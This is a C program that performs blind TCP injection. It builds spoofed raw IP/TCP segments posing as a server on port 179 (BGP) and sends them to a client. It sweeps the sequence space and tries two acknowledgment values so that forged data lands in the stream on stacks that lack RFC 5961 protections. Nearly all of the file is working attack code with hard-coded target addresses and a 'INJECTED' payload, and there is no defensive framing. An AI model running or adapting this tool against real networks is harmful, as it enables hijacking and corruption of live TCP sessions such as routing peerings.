/* Blind injection: text for the middle of a stream that the attacker cannot see. It lands where its sequence number is in
   the window and its acknowledgment number is believed: before RFC 5961 that was half of all there are, so that two of them
   do. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define CLIENT "10.0.1.10"
#define CPORT 40000
#define SERVER "10.0.2.80"
#define SPORT 179
#define STEP 16000 /* no further apart than the stream is long */
#define START 1243900000u /* near the place, to spare you most of the 268,435 steps around the sequence space */
#define ACK 16

/* Writes a number into octets, the highest first. */
void put(unsigned char *to, unsigned int n, int octets) {
  while (octets-- > 0)
    *to++ = n >> 8 * octets;
}

/* Adds octets to a sum of ones' complement (RFC 1071). */
unsigned int add(unsigned int sum, const unsigned char *from, int n) {
  int i;

  for (i = 0; i + 1 < n; i += 2)
    sum += from[i] << 8 | from[i + 1];
  return n % 2 ? sum + (from[n - 1] << 8) : sum;
}

/* A segment of TCP under any name: from and to as their octets lie in a datagram. */
void segment(int s, const char *from, int sport, const char *to, int dport, unsigned int seq, unsigned int ack, int flags,
             const char *text) {
  struct sockaddr_in where = {.sin_family = AF_INET};
  unsigned char d[1500] = {0};
  int len = 20 + strlen(text);
  unsigned int sum;

  d[0] = 0x45;
  put(d + 2, 20 + len, 2);
  d[8] = 64;
  d[9] = IPPROTO_TCP;
  inet_pton(AF_INET, from, d + 12);
  inet_pton(AF_INET, to, d + 16);
  put(d + 20, sport, 2);
  put(d + 22, dport, 2);
  put(d + 24, seq, 4);
  put(d + 28, ack, 4);
  d[32] = 5 << 4;
  d[33] = flags;
  put(d + 34, 8192, 2);
  memcpy(d + 40, text, strlen(text));
  sum = add(IPPROTO_TCP + len, d + 12, 8 + len);
  while (sum >> 16)
    sum = (sum & 0xffff) + (sum >> 16);
  put(d + 36, ~sum & 0xffff, 2);
  inet_pton(AF_INET, to, &where.sin_addr);
  if (sendto(s, d, 20 + len, 0, (struct sockaddr *)&where, sizeof where) < 0)
    perror("sendto");
}

int main(void) {
  int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW), i;
  unsigned int seq = START;
  char text[1401] = "";

  /* So long that no segment of the stream covers all of it: what is covered when it comes is not kept. */
  for (i = 0; i + 9 < 1400; i += 9)
    memcpy(text + i, "INJECTED\n", 9);
  for (i = 0; i < 256; i++) {
    segment(s, SERVER, SPORT, CLIENT, CPORT, seq, 0, ACK, text);
    segment(s, SERVER, SPORT, CLIENT, CPORT, seq, 0x80000000, ACK, text);
    seq += STEP;
    usleep(1000);
  }
  return 0;
}
